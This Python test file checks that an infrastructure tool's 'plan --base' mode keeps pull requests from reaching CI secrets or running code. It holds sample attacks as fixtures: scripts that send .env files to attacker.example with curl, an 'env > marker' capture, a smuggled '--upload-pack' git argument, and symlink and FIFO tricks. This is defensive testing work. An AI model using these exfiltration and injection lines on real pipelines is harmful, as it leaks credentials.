"""``plan --base REF``: a pull request's plan reaches no secret and runs no code.

Each attack is shown working without ``--base`` (the plan trusts the manifest, as Terraform's does)
and failing closed with it: a catching HTTP server on loopback records every request it gets; a
command that would run leaves a marker file; a fuzzer mutates the manifest at random.
"""

from __future__ import annotations

import json
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.cliutil import invoke, write_project
from tests.conftest import ENV, KEY, Server

SENTINEL = "hepgg_db_" + "5e" * 16  # a CI secret a pull request wants: never sent anywhere


class Catcher:
    """An HTTP server that answers every request with an empty JSON object and remembers it."""

    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []
        catcher = self

        class Handler(BaseHTTPRequestHandler):
            def _any(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                catcher.requests.append(
                    {
                        "method": self.command,
                        "path": self.path,
                        "headers": dict(self.headers),
                        "body": self.rfile.read(length).decode(errors="replace"),
                    }
                )
                body = b'{"ok": true, "data": {"databases": []}}'
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_PUT = do_DELETE = _any

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def catcher() -> Iterator[Catcher]:
    c = Catcher()
    yield c
    c.close()


def git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-C", str(repo), "-c", "user.email=t@example.com", "-c", "user.name=t", *args],
        check=True, capture_output=True, text=True,
    ).stdout  # fmt: skip


def repo_with(root: Path, files: dict[str, str], manifest: str = "hepinfra.yaml") -> Path:
    """A Git repository whose ``main`` holds ``files``; returns the manifest's path."""
    root.mkdir(parents=True, exist_ok=True)
    git(root, "init", "-q", "-b", "main")
    for name, content in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(content)
    (root / ".gitignore").write_text(".hepinfra/\n.env\nout/\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "base")
    return root / manifest


def base_manifest(url: str, extra: str = "") -> str:
    return f"""version: 1
hepgg: {{url: "{url}"}}
environments: {{prod: {{}}, staging: {{}}}}
databases:
  shop:
    engine: postgres
    outputs:
      - dotenv: "out/{{{{ env }}}}/.env"
        keys: {{SHOP_URL: "{{{{ db.connection_string }}}}"}}
{extra}"""


def plan(manifest: Path, *args: str, env: dict[str, str] | None = None) -> Any:
    environ = {**ENV, "AWS_SECRET_ACCESS_KEY": SENTINEL, "ATTACK_VAR": SENTINEL, **(env or {})}
    return invoke(["plan", "-f", str(manifest), *args], env=environ)


def unauthorized(server: Server) -> list[dict[str, Any]]:
    return [r for r in server.requests() if r["status"] == 401]


def test_a_changed_hepgg_url_gets_no_request_with_base(server: Server, catcher: Catcher, tmp_path: Path) -> None:
    manifest = repo_with(tmp_path / "r", {"hepinfra.yaml": base_manifest(server.url)})
    manifest.write_text(base_manifest(catcher.url))
    today = plan(manifest)  # the attack, without --base: the key goes to the pull request's host
    assert today.code in (0, 1), today.err
    assert any(f"Bearer {KEY}" in r["headers"].values() for r in catcher.requests), (today, catcher.requests)
    assert today.code in (0, 1)
    catcher.requests.clear()
    result = plan(manifest, "--base", "main")
    assert result.code == 1 and catcher.requests == []
    assert result.err == (
        f"Error: hepgg.url differs from main's ({server.url}): a pull request cannot change where credentials go; "
        "not contacted\n"
    )


def test_a_credential_variable_set_by_the_pull_request_is_never_read(server: Server, tmp_path: Path) -> None:
    manifest = repo_with(tmp_path / "r", {"hepinfra.yaml": base_manifest(server.url)})
    manifest.write_text(base_manifest(server.url).replace("prod: {}", "prod: {db_key_env: ATTACK_VAR}"))
    today = plan(manifest)
    assert today.code == 1 and unauthorized(server)  # the sentinel went to hep.gg as a key
    before = len(server.requests())
    result = plan(manifest, "--base", "main", "--json")
    assert result.code == 1
    assert server.requests()[before:] and not [r for r in server.requests()[before:] if r["status"] == 401]
    diagnostics = result.json()["diagnostics"]
    assert {
        "severity": "error",
        "env": "prod",
        "address": None,
        "hint": None,
        "message": "environments.prod.db_key_env differs from main's (None): a pull request cannot change where "
        "credentials go; not contacted",
    } in diagnostics
    assert [c["address"] for c in result.json()["changes"]] == ["staging/databases.shop"]  # the other is planned


def test_a_new_environment_may_only_use_the_defaults(server: Server, tmp_path: Path) -> None:
    manifest = repo_with(tmp_path / "r", {"hepinfra.yaml": base_manifest(server.url)})
    manifest.write_text(base_manifest(server.url).replace("staging: {}", "staging: {}, qa: {db_key_env: ATTACK_VAR}"))
    result = plan(manifest, "--base", "main")
    assert result.code == 1 and not unauthorized(server)
    assert "qa: environments.qa.db_key_env differs from the default (new in this change: ATTACK_VAR)" in result.err


def test_a_changed_state_block_is_refused_before_anything_is_read(server: Server, catcher: Catcher,
                                                                  tmp_path: Path) -> None:  # fmt: skip
    manifest = repo_with(tmp_path / "r", {"hepinfra.yaml": base_manifest(server.url)})
    for block in ("{backend: s3, bucket: attacker-bucket}", "{backend: postgres, url_env: ATTACK_VAR}"):
        manifest.write_text(base_manifest(server.url).replace("environments:", f"state: {block}\nenvironments:"))
        result = plan(manifest, "--base", "main", env={"AWS_ENDPOINT_URL": catcher.url})
        assert result.code == 1 and catcher.requests == [] and server.requests() == []
        assert result.err == (
            "Error: the state: block differs from main's: a pull request cannot change where credentials go; "
            "not contacted\n"
        )


EXEC = """
      - exec: [sh, -c, "cat > /dev/null"]
        read: [sh, -c, "env > {marker}; echo '{{}}'"]
        keys: {{SHOP_URL: "{{{{ db.connection_string }}}}"}}
"""


def test_a_read_command_changed_by_the_pull_request_never_runs(server: Server, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    manifest = repo_with(tmp_path / "r", {"hepinfra.yaml": base_manifest(server.url)})
    assert invoke(["apply", "-f", str(manifest), "--auto-approve"], env=ENV).code == 0
    manifest.write_text(base_manifest(server.url, EXEC.format(marker=marker)))
    assert invoke(["apply", "-f", str(manifest), "--auto-approve"], env=ENV).code == 0  # the exec output exists
    marker.unlink(missing_ok=True)
    evil = (
        EXEC.format(marker=marker).replace("env >", "env >").replace("keys:", "pass_env: [ATTACK_VAR]\n        keys:")
    )
    manifest.write_text(base_manifest(server.url, evil))
    assert plan(manifest).code in (0, 2, 1) and marker.exists()  # today: it runs, with the CI's variables
    marker.unlink()
    result = plan(manifest, "--base", "main", "--json")
    assert not marker.exists(), "a command of the pull request ran"
    doc = result.json()
    warnings = [d["message"] for d in doc["diagnostics"] if d["severity"] == "warning"]
    assert "exec output exec: not read back (plan --base runs no command)" in " ".join(warnings) or any(
        "not read back (plan --base runs no command)" in w for w in warnings
    )
    assert any(item["where"] == "databases.shop" and "exec output (new or changed)" in item["what"]
               and "ATTACK_VAR" in item["what"] for item in doc["review"])  # fmt: skip


def test_the_review_lists_what_runs_at_apply_and_changed_programs(server: Server, tmp_path: Path) -> None:
    files = {
        "hepinfra.yaml": base_manifest(server.url).replace(
            "    engine: postgres\n", "    engine: postgres\n    after_rotate: [./hooks/restart.sh]\n"
        ),
        "hooks/restart.sh": "#!/bin/sh\necho restart\n",
    }
    manifest = repo_with(tmp_path / "r", files)
    (manifest.parent / "hooks/restart.sh").write_text("#!/bin/sh\ncurl -d @.env https://attacker.example\n")
    text = manifest.read_text().replace(
        "        keys: {SHOP_URL",
        "        keys: {SHOP_URL",
    ) + (
        "      - aws_secretsmanager: attacker/{{ env }}\n        region: eu-west-1\n"
        '        keys: {SHOP_URL: "{{ db.connection_string }}"}\n'
    )
    manifest.write_text(text)
    result = plan(manifest, "--base", "main", "--no-refresh")
    assert "Review (against main): what this change runs or sends where at apply" in result.out
    assert 'program "./hooks/restart.sh": hooks/restart.sh changed since main: runs at apply' in result.out, result.out
    assert (
        'databases.shop: aws_secretsmanager output (new or changed): {"aws_secretsmanager": "attacker/{{ env }}"'
        in result.out
    )
    markdown = plan(manifest, "--base", "main", "--no-refresh", "--markdown").out
    assert "#### Review against `main`" in markdown and "hooks/restart.sh changed since main" in markdown
    unchanged = plan(manifest.parent / "hepinfra.yaml", "--base", "HEAD", "--no-refresh")
    assert "Review (against HEAD)" in unchanged.out


def test_a_template_outside_the_project_that_the_base_does_not_read_is_refused(server: Server,
                                                                                tmp_path: Path) -> None:  # fmt: skip
    secret = tmp_path / "outside-secret.txt"
    secret.write_text("TOPSECRET {{ oops\n")
    manifest = repo_with(tmp_path / "r", {"hepinfra.yaml": base_manifest(server.url)})
    manifest.write_text(
        base_manifest(server.url)
        + f"      - template: {secret}\n        path: out/x.txt\n        allow_outside: true\n"
    )
    result = plan(manifest, "--base", "main")
    assert result.code == 1 and "TOPSECRET" not in result.out + result.err
    assert (
        "has allow_outside: main reads no such file outside the project, and a pull request's plan reads none"
        in result.err
    )
    assert server.requests() == []


def test_a_base_without_a_manifest_trusts_only_the_defaults(server: Server, catcher: Catcher, tmp_path: Path) -> None:
    repo = tmp_path / "r"
    repo_with(repo, {"README": "x\n"})
    manifest = repo / "hepinfra.yaml"
    manifest.write_text(base_manifest(catcher.url))
    result = plan(manifest, "--base", "main")
    assert result.code == 1 and catcher.requests == []
    assert "hepgg.url differs from main's (https://hep.gg)" in result.err
    manifest.write_text(base_manifest(server.url).replace(f'hepgg: {{url: "{server.url}"}}\n', ""))
    ok = plan(manifest, "--base", "main", env={"HEPGG_URL": server.url})  # the runner's own setting is trusted
    assert ok.code == 0, ok.err
    assert "manifest: new: main has no manifest at hepinfra.yaml" in ok.out


def test_a_manifest_in_a_subdirectory(server: Server, tmp_path: Path) -> None:
    manifest = repo_with(tmp_path / "r", {"infra/hepinfra.yaml": base_manifest(server.url)}, "infra/hepinfra.yaml")
    assert plan(manifest, "--base", "main").code == 0
    manifest.write_text(base_manifest(server.url).replace("prod: {}", "prod: {db_key_env: ATTACK_VAR}"))
    result = plan(manifest, "--base", "main")
    assert result.code == 1 and "environments.prod.db_key_env differs from main's (None)" in result.err


def test_a_shallow_clone_without_the_base_is_one_clear_line(server: Server, tmp_path: Path) -> None:
    manifest = repo_with(tmp_path / "r", {"hepinfra.yaml": base_manifest(server.url)})
    result = plan(manifest, "--base", "origin/main")
    assert result.code == 1 and server.requests() == []
    assert result.err == (
        f"Error: --base origin/main: no such revision in {tmp_path / 'r'} (a shallow clone? fetch it first, e.g. "
        "'git fetch --depth=1 origin main')\n"
    )
    outside = tmp_path / "plain"
    outside.mkdir()
    (outside / "hepinfra.yaml").write_text(base_manifest(server.url))
    result = plan(outside / "hepinfra.yaml", "--base", "main")
    assert result.code == 1 and "is not inside a Git work tree" in result.err and result.err.count("\n") == 1
    result = plan(manifest, "--base", "--upload-pack=touch x")
    assert result.code == 1 and "not a Git revision" in result.err


def test_a_pull_request_plan_without_base_warns_in_github_actions(server: Server, tmp_path: Path) -> None:
    manifest = repo_with(tmp_path / "r", {"hepinfra.yaml": base_manifest(server.url)})
    env = {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "pull_request_target"}
    result = plan(manifest, "--no-refresh", env=env)
    assert result.err.startswith("Warning: a pull_request_target plan without --base trusts the pull request's")
    assert plan(manifest, "--no-refresh", env={**env, "HEPINFRA_BASE_REF": "main"}).err == ""


# --- the fuzzer -------------------------------------------------------------------------------------

MUTATIONS = {
    "url": lambda m, c: m.replace('hepgg: {url: "', f'hepgg: {{url: "{c.url}"}}\n# "'),
    "db_key_env": lambda m, c: m.replace("prod: {}", "prod: {db_key_env: ATTACK_VAR}"),
    "id_token_env": lambda m, c: m.replace("staging: {}", "staging: {id_token_env: AWS_SECRET_ACCESS_KEY}"),
    "new_env": lambda m, c: m.replace("staging: {}", "staging: {}, qa: {upload_token_env: ATTACK_VAR}"),
    "state": lambda m, c: m.replace("environments:", "state: {backend: postgres, url_env: ATTACK_VAR}\nenvironments:"),
    "exec": lambda m, c: m + EXEC.format(marker=c.marker),
    "hook": lambda m, c: m.replace(
        "    engine: postgres\n", f"    engine: postgres\n    after_rotate: [touch, '{c.marker}']\n"
    ),
    "verify": lambda m, c: m.replace("    engine: postgres\n", "    engine: postgres\n    verify: true\n"),
    "outside": lambda m, c: m + f"      - template: {c.marker}.j2\n        path: out/y\n        allow_outside: true\n",
    "rename": lambda m, c: m.replace("shop:", "shop2:"),
    "aws": lambda m, c: m + "      - aws_ssm: /x/\n        region: eu-west-1\n        keys: {A: '{{ db.password }}'}\n",
}


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(chosen=st.lists(st.sampled_from(sorted(MUTATIONS)), min_size=1, max_size=4, unique=True),
       refresh=st.booleans())  # fmt: skip
def test_fuzzed_pull_requests_reach_no_new_host_read_no_new_variable_and_run_nothing(
    chosen: list[str], refresh: bool, server: Server, catcher: Catcher, tmp_path_factory: pytest.TempPathFactory
) -> None:
    root = tmp_path_factory.mktemp("fuzz")
    marker = root / "ran"
    (root / "ran.j2").write_text("{{ 1 }}")
    manifest = repo_with(root / "r", {"hepinfra.yaml": base_manifest(server.url)})
    text = base_manifest(server.url)
    context = type("C", (), {"url": catcher.url, "marker": marker})
    for name in chosen:
        text = MUTATIONS[name](text, context)
    manifest.write_text(text)
    started: list[list[str]] = []
    real_popen = subprocess.Popen

    def recording(argv: Any, *args: Any, **kwargs: Any) -> Any:
        started.append(list(argv))
        return real_popen(argv, *args, **kwargs)

    before = len(server.requests())
    with mock.patch("subprocess.Popen", recording):
        result = plan(manifest, "--base", "main", *(() if refresh else ("--no-refresh",)))
    assert result.code in (0, 1, 2), result.err
    assert catcher.requests == [], chosen
    assert not [r for r in server.requests()[before:] if r["status"] == 401], chosen
    assert not marker.exists()
    assert all(Path(argv[0]).name == "git" for argv in started), started
    assert SENTINEL not in result.out + result.err
    json.dumps(chosen)  # the example, for the report


def _fake_repository(directory: Path, manifest: str) -> None:
    """A directory a pull request commits that looks to Git like a bare repository whose work tree is
    itself, with the attacker's manifest committed on main and origin/main."""
    directory.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", "--bare", str(directory)], check=True)
    git_dir = ["git", "--git-dir", str(directory)]
    subprocess.run([*git_dir, "config", "core.bare", "false"], check=True)
    subprocess.run([*git_dir, "config", "core.worktree", "."], check=True)
    (directory / "hepinfra.yaml").write_text(manifest)
    env = {"GIT_DIR": str(directory), "GIT_WORK_TREE": str(directory), "PATH": "/usr/bin:/bin", "HOME": str(directory)}
    for args in (["add", "hepinfra.yaml"], ["-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-m", "x"],
                 ["update-ref", "refs/remotes/origin/main", "HEAD"]):  # fmt: skip
        subprocess.run(["git", *args], check=True, env=env, cwd=directory)


@pytest.mark.parametrize("shape", ["a link to the fake repository's manifest", "the manifest's directory is one"])
def test_a_pull_request_cannot_bring_its_own_base(shape: str, server: Server, catcher: Catcher, tmp_path: Path) -> None:
    """A committed directory that Git would take for a bare repository must not become the base."""
    evil = (f'version: 1\nhepgg: {{url: "{catcher.url}"}}\nenvironments: {{prod: {{db_key_env: AWS_SECRET_ACCESS_KEY}}}}\n'
            "databases: {shop: {engine: postgres}}\n")  # fmt: skip
    if shape.startswith("a link"):
        manifest = repo_with(tmp_path / "r", {"hepinfra.yaml": base_manifest(server.url)})
        _fake_repository(manifest.parent / "evil", evil)
        manifest.unlink()
        manifest.symlink_to("evil/hepinfra.yaml")
    else:
        manifest = repo_with(tmp_path / "r", {"infra/hepinfra.yaml": base_manifest(server.url)}, "infra/hepinfra.yaml")
        (manifest.parent / "hepinfra.yaml").unlink()
        manifest.parent.rmdir()
        _fake_repository(manifest.parent, evil)
    for ref in ("main", "origin/main"):
        result = plan(manifest, "--base", ref)
        assert result.code == 1 and catcher.requests == [] and result.err.count("\n") == 1, (result.err, result.out)
        assert SENTINEL not in result.out + result.err
    if shape.startswith("a link"):
        assert "is a symbolic link inside the repository" in result.err
    else:
        assert "is not inside a Git work tree (a directory that only looks like a bare repository" in result.err


@pytest.mark.parametrize("what", ["a link to a file outside", "a link to a FIFO", "the folder is a link"])
def test_a_committed_link_in_the_local_state_is_never_followed(what: str, server: Server, tmp_path: Path) -> None:
    import os

    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "docker.json").write_text('{"environment": "ghp_' + "S3CRET" * 6 + '", "lineage": "x", "serial": 1}')
    os.mkfifo(outside / "fifo")
    manifest = repo_with(tmp_path / "r", {"hepinfra.yaml": base_manifest(server.url)})
    state = manifest.parent / ".hepinfra/state"
    if what == "the folder is a link":
        (manifest.parent / ".hepinfra").symlink_to(outside)
    else:
        state.mkdir(parents=True)
        (state / "prod.json").symlink_to(outside / ("fifo" if "FIFO" in what else "docker.json"))
    result = plan(manifest, "--base", "main", "--no-refresh")  # a FIFO would block the open: it must not
    assert result.code == 1 and "symbolic link" in result.err and "S3CRET" not in result.out + result.err
    assert result.err.count("\n") == 1, result.err


def test_the_review_sees_changes_made_through_vars_and_the_environments_filter(server: Server, tmp_path: Path) -> None:
    base = (
        f'version: 1\nhepgg: {{url: "{server.url}"}}\n'
        "environments: {prod: {vars: {tool: ./store.sh, prefix: prod/app}}, staging: {vars: {tool: ./store.sh, "
        "prefix: st/app}}}\n"
        "databases:\n"
        "  shop:\n    engine: postgres\n    outputs:\n"
        '      - exec: ["{{ vars.tool }}", put]\n        keys: {URL: "{{ db.connection_string }}"}\n'
        "  analytics:\n    environments: [staging]\n    outputs:\n"
        '      - exec: [./publish.sh]\n        keys: {URL: "{{ db.connection_string }}"}\n'
    )
    manifest = repo_with(
        tmp_path / "r", {"hepinfra.yaml": base, "store.sh": "#!/bin/sh\n", "publish.sh": "#!/bin/sh\n"}
    )
    (manifest.parent / "evil.sh").write_text("#!/bin/sh\ncat > /tmp/leak\n")
    manifest.write_text(base.replace("tool: ./store.sh, prefix: prod/app", "tool: ./evil.sh, prefix: public/leak")
                        .replace("environments: [staging]", "environments: [staging, prod]"))  # fmt: skip
    result = plan(manifest, "--base", "main", "--no-refresh", "--json")
    review = {(item["where"], item["what"]) for item in result.json()["review"]}
    assert ("environments.prod.vars", 'set {"prefix": "public/leak", "tool": "./evil.sh"} (names, paths and argv '
            "render from them)") in review  # fmt: skip
    assert ("databases.analytics", 'environments: ["staging"] -> ["prod", "staging"]') in review or (
        "databases.analytics",
        'environments: ["staging"] -> ["staging", "prod"]',
    ) in review
    assert ('program "./evil.sh"', "new file evil.sh: runs at apply") in review


def test_a_submodule_where_the_manifest_was_cannot_be_the_base(
    server: Server, catcher: Catcher, tmp_path: Path
) -> None:
    evil_repo = tmp_path / "evil"
    repo_with(evil_repo, {"hepinfra.yaml": f'version: 1\nhepgg: {{url: "{catcher.url}"}}\n'
                          "environments: {prod: {db_key_env: ATTACK_VAR}}\ndatabases: {shop: {engine: postgres}}\n"})  # fmt: skip
    git(evil_repo, "update-ref", "refs/remotes/origin/main", "HEAD")
    manifest = repo_with(tmp_path / "r", {"infra/hepinfra.yaml": base_manifest(server.url)}, "infra/hepinfra.yaml")
    git(manifest.parent.parent, "rm", "-q", "-r", "infra")
    git(manifest.parent.parent, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(evil_repo), "infra")
    for ref in ("main", "origin/main"):
        result = plan(manifest, "--base", ref)
        assert result.code == 1 and catcher.requests == [] and SENTINEL not in result.out + result.err
        assert "is a Git submodule of" in result.err and result.err.count("\n") == 1


def test_the_review_sees_files_the_outputs_read_links_and_every_new_output(server: Server, tmp_path: Path) -> None:
    files = {
        "hepinfra.yaml": base_manifest(
            server.url,
            '      - template: page.j2\n        path: "out/{{ env }}/page"\n'
            '      - exec: [sh, scripts/push.sh]\n        keys: {U: "{{ db.user }}"}\n',
        ),
        "page.j2": "user {{ db.user }}\n",
        "scripts/push.sh": "cat > /dev/null\n",
        "scripts/publish.sh": "curl -d @- https://attacker.example\n",
    }
    manifest = repo_with(tmp_path / "r", files)
    (manifest.parent / "page.j2").write_text("user {{ db.user }} # {{ db.password }}\n")
    (manifest.parent / "scripts/push.sh").unlink()
    (manifest.parent / "scripts/push.sh").symlink_to("publish.sh")
    manifest.write_text(
        manifest.read_text() + '      - dotenv: "out/{{ env }}/other.env"\n        keys: {PW2: "{{ db.password }}"}\n'
    )
    review = {
        (i["where"], i["what"]) for i in plan(manifest, "--base", "main", "--no-refresh", "--json").json()["review"]
    }
    assert ('file "page.j2"', "page.j2 changed since main: what is rendered or published changes") in review
    assert ('program "scripts/push.sh"',
            "scripts/push.sh is a symbolic link to publish.sh (new or changed): runs at apply") in review  # fmt: skip
    assert any(w == "databases.shop" and "dotenv output (new or changed)" in t and "PW2" in t for w, t in review)


def test_a_new_age_recipient_in_the_recipients_file_is_reviewed(server: Server, tmp_path: Path) -> None:
    import pyrage  # the test extras install it (hepinfra[age])

    one, two = (str(pyrage.x25519.Identity.generate().to_public()) for _ in range(2))
    files = {
        "hepinfra.yaml": base_manifest(
            server.url,
            '      - age: "out/{{ env }}/s.age"\n        recipients_file: r.txt\n'
            '        keys: {P: "{{ db.password }}"}\n',
        ),
        "r.txt": one + "\n",
    }
    manifest = repo_with(tmp_path / "r", files)
    (manifest.parent / "r.txt").write_text(f"{one}\n{two}\n")
    review = {
        (i["where"], i["what"]) for i in plan(manifest, "--base", "main", "--no-refresh", "--json").json()["review"]
    }
    assert ('file "r.txt"', "r.txt changed since main: what is rendered or published changes") in review


@pytest.mark.parametrize("name", ["credentials.json", "credentials.tmp", "hepgg.sqlite3", "state.key", "state.tmp"])
def test_a_committed_link_in_the_local_sandbox_is_never_followed(name: str, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    victim.chmod(0o644)
    project = write_project(tmp_path / "p", "version: 1\nhepgg: {url: local}\nenvironments: {dev: {}}\n"
                            "databases: {shop: {engine: postgres}}\n")  # fmt: skip
    local = project.parent / ".hepinfra/local"
    local.mkdir(parents=True)
    (local / name).symlink_to(victim)
    result = invoke(["plan", "-f", str(project)])
    assert result.code == 1 and "is a symbolic link; hepinfra's own files are never used through one" in result.err
    assert victim.read_text() == "precious\n" and victim.stat().st_mode & 0o777 == 0o644


def test_a_fifo_as_the_lock_does_not_hang_apply(server: Server, tmp_path: Path) -> None:
    import os

    manifest = repo_with(tmp_path / "r", {"hepinfra.yaml": base_manifest(server.url)})
    state = manifest.parent / ".hepinfra/state"
    state.mkdir(parents=True)
    os.mkfifo(state / "prod.lock")
    result = invoke(["apply", "-f", str(manifest), "--auto-approve", "--lock-timeout", "1s"], env=ENV)
    assert result.code == 1 and result.err.count("\n") == 1, result.err
